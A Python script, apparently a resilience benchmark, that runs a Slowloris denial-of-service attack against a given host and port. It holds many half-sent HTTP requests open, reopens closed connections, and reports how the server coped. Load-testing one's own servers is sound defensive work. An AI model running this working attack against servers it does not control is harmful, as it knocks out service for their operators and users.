"""Slowloris against one server: keeps COUNT connections open for HOLD
seconds, each sending half a request header and then nothing. A connection
the server closes is opened again at once (an attacker would), so COUNT stay
in play the whole time. Prints one line: how many connections were opened,
how many the server closed, the longest the server held a half-sent request, and how many were refused
with 503 (the connection cap).
    python3 slow.py HOST PORT COUNT HOLD
"""
import asyncio
import resource
import sys
import time

HALF = b"GET /healthz HTTP/1.1\r\nHost: bench\r\nX-Slow: "


async def one(host, port, deadline, stats):
    while time.monotonic() < deadline:
        started = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["connect_errors"] += 1
            await asyncio.sleep(0.1)
            continue
        stats["opened"] += 1
        try:
            writer.write(HALF)
            await writer.drain()
            # From here the server holds a half-sent request.
            started = time.monotonic()
            left = deadline - time.monotonic()
            data = await asyncio.wait_for(reader.read(64), timeout=max(left, 0.01))
            # The server answered or closed: it did not keep us.
            stats["closed"] += 1
            if data.startswith(b"HTTP/1.1 503"):
                stats["refused"] += 1
            stats["longest"] = max(stats["longest"], time.monotonic() - started)
        except asyncio.TimeoutError:
            pass  # still open when the hold ended
        except OSError:
            stats["closed"] += 1
            stats["longest"] = max(stats["longest"], time.monotonic() - started)
        finally:
            writer.close()


async def main(host, port, count, hold):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    stats = dict(opened=0, closed=0, refused=0, connect_errors=0, longest=0.0)
    deadline = time.monotonic() + hold
    await asyncio.gather(*(one(host, port, deadline, stats) for _ in range(count)))
    print(
        f"SLOW held={count} for={hold}s opened={stats['opened']} closed_by_server={stats['closed']} "
        f"longest_s={stats['longest']:.1f} refused_503={stats['refused']} connect_errors={stats['connect_errors']}"
    )


if __name__ == "__main__":
    host, port, count, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    asyncio.run(main(host, port, count, hold))
